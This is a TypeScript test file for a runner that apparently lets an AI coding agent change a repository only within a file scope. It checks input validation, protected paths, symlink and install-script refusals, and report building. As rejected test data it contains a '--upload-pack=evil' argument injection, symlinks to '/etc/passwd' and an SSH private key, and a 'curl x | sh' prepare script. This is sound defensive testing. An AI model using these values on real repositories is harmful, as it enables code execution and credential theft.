import { describe, expect, it } from "vitest";
import { briefFor } from "../../src/render/batchBrief.js";
import { reportFrom } from "../../src/report/reportBlock.js";
import { reportMarker } from "../../src/report/reportSchema.js";
import { briefChecks, briefHeader } from "../../src/runner/brief.js";
import { readInputs } from "../../src/runner/inputs.js";
import { buildReport, BODY_LIMIT, pullRequestTitle, reportBody } from "../../src/runner/report.js";
import { inScope, installScriptProblem, judge, type Entry } from "../../src/runner/judge.js";
import { lastLines, runShell } from "../../src/runner/shell.js";
import { batch, plan } from "../render/planFixture.js";
import { asJob } from "./sandbox.js";

describe("the brief as the runner reads it", () => {
  const thePlan = plan([
    batch("1", {
      title: "Model `Notification` and | migration",
      accept: [
        { run: "npm test -- notifications" },
        { check: "The bell shows the unread count" },
        { run: "echo `x` && true" },
      ],
    }),
    batch("2", { title: "API" }),
  ]);
  const brief = briefFor(thePlan, "1");

  it("takes position, total and title from the first line the brief writer puts there", () => {
    expect(briefHeader(brief)).toEqual({ position: 1, total: 2, title: "Model `Notification` and | migration" });
    expect(briefHeader("no header")).toBeUndefined();
    expect(pullRequestTitle(12, "3", briefHeader(brief))).toBe(
      "[#12] Batch 1 of 2: Model `Notification` and | migration",
    );
    expect(pullRequestTitle(12, "3", undefined)).toBe("[#12] Batch 3");
  });

  it("takes the acceptance commands from the check-in criteria written as code spans", () => {
    expect(briefChecks(brief)).toEqual(["npm test -- notifications", "echo `x` && true"]);
    expect(briefChecks("**Batch**: 1 of 1 - x\n")).toEqual([]);
  });
});

describe("inputs", () => {
  const env = (values: Record<string, string>) =>
    Object.fromEntries(Object.entries(values).map(([name, value]) => [`INPUT_${name.toUpperCase()}`, value]));
  const valid = {
    issue: "3",
    batch: "2a",
    attempt: "2",
    key: "pc-3-2a-2",
    base: "parallel-coordinator/3",
    scope: '{"allow":["src/**"]}',
    brief: "  keep my spaces  \n",
    agent: "claude -p",
    mode: "agent",
  };

  it("reads INPUT_* as the runner sets them (hyphens kept, upper case), trimmed except the brief", async () => {
    const named = {
      ...env({ ...valid, mode: "publish", needs: '{"verify":{"result":"success","outputs":{"digest":"d"}}}' }),
      "INPUT_GITHUB-TOKEN": "from INPUT_GITHUB-TOKEN",
      "INPUT_SCOPE-MODE": "  report \n",
    };
    expect(await asJob(named, readInputs)).toMatchObject({
      ok: true,
      inputs: {
        token: "from INPUT_GITHUB-TOKEN",
        scopeMode: "report",
        needs: { verify: { outputs: { digest: "d" } } },
      },
    });
    const read = await asJob(env(valid), readInputs);
    expect(read).toMatchObject({
      ok: true,
      inputs: {
        mode: "agent",
        issue: 3,
        batch: "2a",
        attempt: 2,
        scope: { allow: ["src/**"], deny: [], allowProtected: [], allowSymlinks: false, allowSubmodules: false },
        brief: "  keep my spaces  \n",
        timeoutMinutes: 30,
        scopeMode: "revert",
        limits: { maxFileBytes: 1024 * 1024, maxChangeBytes: 10 * 1024 * 1024 },
      },
    });
    if (read.ok) expect(read.inputs.checks).toBeUndefined();
  });

  it("names every problem", async () => {
    const read = await asJob(
      env({
        ...valid,
        base: "--upload-pack=evil",
        scope: '{"allow":["/etc/**"]}',
        "timeout-minutes": "0",
        "scope-mode": "ignore",
        issue: "x",
        "max-file-bytes": "99999999999",
      }),
      readInputs,
    );
    expect(read.ok).toBe(false);
    if (read.ok) return;
    expect(read.problems.join("\n")).toMatch(/`issue` must be a positive whole number/);
    expect(read.problems.join("\n")).toMatch(/`base` must be a plain branch name/);
    expect(read.problems.join("\n")).toMatch(/`scope`.allow.0: `\/etc\/\*\*` is not a usable glob/);
    expect(read.problems.join("\n")).toMatch(/`timeout-minutes` must be more than 0/);
    expect(read.problems.join("\n")).toMatch(/`scope-mode` must be `revert` or `report`/);
    expect(read.problems.join("\n")).toMatch(/`max-file-bytes` must be/);
    expect((await asJob(env({ ...valid, mode: "deploy" }), readInputs)).ok).toBe(false);
  });

  it("holds the scope's globs to the planner's limits: no extglob, a few wildcards", async () => {
    const scope = JSON.stringify({ allow: ["src/@(a|b)/**", `src/${"*a".repeat(16)}b`], deny: ["!src/x"] });
    const read = await asJob(env({ ...valid, scope }), readInputs);
    expect(read.ok).toBe(false);
    if (read.ok) return;
    expect(read.problems.join("\n")).toMatch(
      /`scope`.allow.0: `src\/@\(a\|b\)\/\*\*` is not a usable glob: it needs a glob without extglobs/,
    );
    expect(read.problems.join("\n")).toMatch(
      /`scope`.allow.1: .* is not a usable glob: it needs at most 6 wildcards \(`\*` or `\*\*`\) in one pattern, not 16/,
    );
    expect(read.problems.join("\n")).toMatch(
      /`scope`.deny.0: `!src\/x` is not a usable glob: it needs a path or glob without a leading `!`/,
    );
  });
});

describe("the judge of a change", () => {
  const scope = {
    allow: ["src/**", ".github/**"],
    deny: ["src/owned/**"],
    allowProtected: [],
    allowSymlinks: false,
    allowSubmodules: false,
  };
  const limits = { maxFileBytes: 100, maxChangeBytes: 1_000 };
  const file = (path: string, extra: Partial<Entry> = {}): Entry => ({
    path,
    oldMode: "100644",
    newMode: "100644",
    size: 10,
    ...extra,
  });

  it("allows what allow matches and deny does not", () => {
    expect(inScope("src/a.ts", scope)).toBe(true);
    expect(inScope("src/owned/b.ts", scope)).toBe(false);
    expect(judge(file("src/a.ts"), scope, limits)).toEqual({ kind: "keep" });
    expect(judge(file("docs/x.md"), scope, limits)).toEqual({ kind: "outOfScope" });
  });

  it("refuses protected paths whatever allow says, unless allowProtected names them", () => {
    for (const path of [
      ".github/workflows/ci.yml",
      ".github/CODEOWNERS",
      ".github/parallel-coordinator.yml",
      ".github/actions/x/action.yml",
      "CODEOWNERS",
      ".gitmodules",
      "src/.npmrc",
      ".yarnrc.yml",
      ".yarn/releases/yarn.cjs",
      ".pnpmfile.cjs",
      "gradle/wrapper/gradle-wrapper.properties",
    ]) {
      expect(judge(file(path), { ...scope, allow: ["**"] }, limits), path).toMatchObject({
        kind: "refused",
        why: expect.stringMatching(/^protected: /),
      });
    }
    expect(
      judge(file(".github/workflows/ci.yml"), { ...scope, allowProtected: [".github/workflows/**"] }, limits),
    ).toEqual({ kind: "keep" });
    // A deletion is a change too: deleting a workflow is refused like editing it.
    expect(judge(file(".github/workflows/ci.yml", { newMode: "000000" }), scope, limits).kind).toBe("refused");
  });

  it("refuses submodules and symlinks unless the scope allows them, and symlinks out of the repository or the scope always", () => {
    expect(judge(file("src/lib", { newMode: "160000" }), scope, limits)).toMatchObject({
      kind: "refused",
      why: expect.stringContaining("submodule"),
    });
    expect(judge(file("src/lib", { newMode: "160000" }), { ...scope, allowSubmodules: true }, limits)).toEqual({
      kind: "keep",
    });
    const link = (target: string) => file("src/link", { newMode: "120000", target });
    expect(judge(link("a.ts"), scope, limits)).toMatchObject({
      kind: "refused",
      why: expect.stringContaining("symlink"),
    });
    const symlinks = { ...scope, allowSymlinks: true };
    expect(judge(link("a.ts"), symlinks, limits)).toEqual({ kind: "keep" });
    expect(judge(link("../../etc/passwd"), symlinks, limits)).toMatchObject({
      why: "a symlink pointing outside the repository",
    });
    expect(judge(link("/home/runner/.ssh/id_rsa"), symlinks, limits)).toMatchObject({
      why: "a symlink pointing outside the repository",
    });
    expect(judge(link("../.git/config"), symlinks, limits)).toMatchObject({ why: "a symlink into git's own folder" });
    expect(judge(link("../.github/workflows"), symlinks, limits)).toMatchObject({
      why: expect.stringMatching(/^a symlink to a protected path/),
    });
    expect(judge(link("../docs"), symlinks, limits)).toMatchObject({
      why: "a symlink to a path outside the batch's scope",
    });
  });

  it("refuses a file over max-file-bytes", () => {
    expect(judge(file("src/big.bin", { size: 101 }), scope, limits)).toMatchObject({
      kind: "refused",
      why: "101 bytes, over the 100 a file may have (`max-file-bytes`)",
    });
  });

  it("refuses a package.json whose change runs or fetches something new at install time", () => {
    const manifest = (scripts: object, dependencies: object = {}) =>
      JSON.stringify({ name: "x", scripts, dependencies });
    const before = manifest({ test: "vitest" }, { zod: "^4.0.0" });
    expect(
      installScriptProblem(
        before,
        manifest(
          { test: "vitest run", build: "tsc" },
          { zod: "^4.1.0", "left-pad": "npm:left-pad@1", shared: "workspace:*" },
        ),
      ),
    ).toBeUndefined();
    expect(installScriptProblem(before, manifest({ test: "vitest", postinstall: "node x.js" }))).toBe(
      "it changes the `postinstall` script, which npm runs at install time",
    );
    expect(installScriptProblem(before, manifest({ test: "vitest" }, { evil: "github:someone/evil" }))).toMatch(
      /^it takes `evil` from outside the registry/,
    );
    expect(
      installScriptProblem(before, manifest({ test: "vitest" }, { evil: "https://example.com/evil.tgz" })),
    ).toMatch(/^it takes `evil` from outside the registry/);
    expect(installScriptProblem(before, manifest({ test: "vitest" }, { evil: "../evil" }))).toMatch(
      /^it takes `evil` from outside the registry/,
    );
    expect(installScriptProblem(undefined, "{")).toMatch(/^not JSON/);
    const entry = file("src/package.json", { manifest: { before, after: manifest({ prepare: "curl x | sh" }) } });
    expect(judge(entry, scope, limits)).toMatchObject({
      kind: "refused",
      why: "protected: it changes the `prepare` script, which npm runs at install time",
    });
    expect(judge(entry, { ...scope, allowProtected: ["src/package.json"] }, limits)).toEqual({ kind: "keep" });
  });
});

describe("the report body", () => {
  it("stays under GitHub's limit with huge outputs, and stays valid", () => {
    const report = buildReport({
      issue: 1,
      batch: "1",
      run: 5,
      agent: { summary: "@someone <b>hi</b> ```", integrationPoints: ["x".repeat(10_000)] },
      changes: [{ file: "a.ts", kind: "modified" }],
      acceptance: Array.from({ length: 40 }, (_, i) => ({
        check: `check ${i}`,
        passed: false,
        output: `exit code 1\n${"y".repeat(4_000)}`,
      })),
      outOfScope: [],
    });
    const { body, report: written } = reportBody(report, {
      title: "t",
      runUrl: "https://x",
      attempt: 1,
      place: "pull request",
      committed: true,
      notes: [],
      scopeMode: "revert",
    });
    expect(body.length).toBeLessThanOrEqual(BODY_LIMIT);
    const read = reportFrom(body);
    expect(read).toEqual({ ok: true, report: written });
    const readable = body.slice(0, body.indexOf(reportMarker));
    expect(readable.includes("@\u2060someone")).toBe(true);
    expect(readable.includes("<b>")).toBe(false);
  });

  it("is Blocked with the runner's reason whatever the agent said", () => {
    const report = buildReport({
      issue: 1,
      batch: "1",
      run: 5,
      failure: "Nothing to commit.",
      agent: { status: "Complete", blockers: ["also this"] },
      changes: [],
      acceptance: [],
      outOfScope: [],
    });
    expect(report).toMatchObject({
      status: "Blocked",
      blockers: ["Nothing to commit.", "also this"],
      summary: "Nothing to commit.",
    });
  });
});

describe("runShell", () => {
  it("passes output through and keeps its tail", async () => {
    const seen: string[] = [];
    const result = await runShell("printf 'a\\nb\\n'; echo err >&2; exit 2", {
      cwd: process.cwd(),
      env: { PATH: process.env.PATH },
      timeoutMs: 5_000,
      onOutput: (text) => void seen.push(text),
    });
    expect(result).toMatchObject({ code: 2, timedOut: false });
    expect(seen.join("")).toContain("a\nb\n");
    expect(lastLines(result.tail, 2)).toMatch(/b\nerr|err/);
  });

  it("does not wait for a background process the command leaves behind", async () => {
    // Waiting for the `sleep` would run into the 10 s limit and time out.
    const result = await runShell("sleep 20 & echo started", {
      cwd: process.cwd(),
      env: { PATH: process.env.PATH },
      timeoutMs: 10_000,
      onOutput: () => {},
    });
    expect(result).toMatchObject({ code: 0, timedOut: false });
  });
});
